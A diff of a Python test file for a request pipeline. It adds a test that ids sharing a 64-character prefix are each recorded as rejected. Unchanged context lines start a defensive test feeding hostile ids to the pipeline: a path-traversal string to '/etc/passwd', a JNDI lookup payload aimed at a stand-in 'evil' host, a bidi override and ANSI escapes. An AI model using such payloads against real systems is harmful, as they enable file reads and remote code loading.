@@ -117,6 +117,18 @@ def test_a_rejected_long_request_id_is_recorded_whole(pipeline: Pipeline) -> Non
     assert final.status == "rejected" and final.request_id == request_id
 
 
+def test_two_rejected_ids_sharing_their_first_64_characters_each_get_their_rejection(pipeline: Pipeline) -> None:
+    """Ids once cut to 64 characters collided: the second rejection was dropped as already final."""
+    prefix = "r" + uuid.uuid4().hex * 2
+    prefix += "p" * (64 - len(prefix))
+    ids = [f"{prefix}-first", f"{prefix}-second"]
+    finals = [
+        one_final(pipeline, send(pipeline, {**plain_package(pipeline), "request_id": rid, "verify": "no"}))
+        for rid in ids
+    ]
+    assert [(f.status, f.request_id) for f in finals] == [("rejected", rid) for rid in ids]
+
+
 def test_ids_that_break_the_rule_are_not_echoed(pipeline: Pipeline) -> None:
     """Path-like, JNDI, bidi and ANSI ids: the rejection is keyed by the task id and echoes none."""
     for hostile in ("../../etc/passwd", "${jndi:ldap://evil/a}", "abc\u202eevil", "\x1b[31mred\x1b[0m"):
